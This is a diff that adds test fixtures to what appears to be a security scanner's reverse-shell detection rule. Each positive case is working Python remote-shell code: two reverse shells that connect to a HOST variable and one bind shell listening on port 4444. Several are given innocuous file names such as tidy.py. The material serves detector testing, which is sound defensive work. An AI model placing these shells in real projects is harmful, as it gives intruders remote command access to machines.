@@ -366,3 +366,35 @@ describeRuleCases('reverse-shell (addresses in variables, DNS command channels, 
     negative: 'Match all\n    PermitLocalCommand yes\n    LocalCommand echo connected to %h >> ~/.ssh/log\n',
   },
 ]);
+
+describeRuleCases('reverse-shell (Python child on a socket)', [
+  {
+    id: 'SG-RSHELL-007',
+    // A "support channel": an interactive shell whose streams are the socket's descriptor.
+    file: 'scripts/tidy.py',
+    positive:
+      'import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 9001))\np = subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(),\n                     stderr=s.fileno())\np.wait()\n',
+    // A stream sent to a socket: ffmpeg writes to it, nothing is read from it into a program.
+    negative:
+      'import socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 9001))\np = subprocess.Popen(["ffmpeg", "-i", src, "-f", "mpegts", "-"], stdout=s.fileno())\np.wait()\n',
+  },
+  {
+    id: 'SG-RSHELL-007',
+    // An accepted connection handed to a shell as its stdin (bind shell), the socket object itself.
+    file: 'tools/relay.py',
+    positive:
+      'import socket, subprocess\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 4444))\nsrv.listen(1)\nconn, addr = srv.accept()\nsubprocess.call("sh", shell=True, stdin=conn, stdout=conn, stderr=conn)\n',
+    negative:
+      'import socket, subprocess\nsrv = socket.socket()\nsrv.bind(("0.0.0.0", 4444))\nsrv.listen(1)\nconn, addr = srv.accept()\nout = subprocess.run(["uptime"], stdin=subprocess.DEVNULL, capture_output=True).stdout\nconn.sendall(out)\n',
+  },
+  {
+    id: 'SG-RSHELL-007',
+    // The socket's descriptor kept in a name and duplicated onto the standard streams.
+    file: 'scripts/agent.py',
+    positive:
+      'import os, socket, subprocess\nwith socket.create_connection((HOST, 443)) as c:\n    fd = c.fileno()\n    for n in (0, 1, 2):\n        os.dup2(fd, n)\n    subprocess.call(["/bin/sh", "-i"])\n',
+    // A daemon's stdout redirected to its log file.
+    negative:
+      'import os, socket\nlog = open("/var/log/agent.log", "a")\nfd = log.fileno()\nos.dup2(fd, 1)\ns = socket.create_connection((HOST, 443))\n',
+  },
+]);
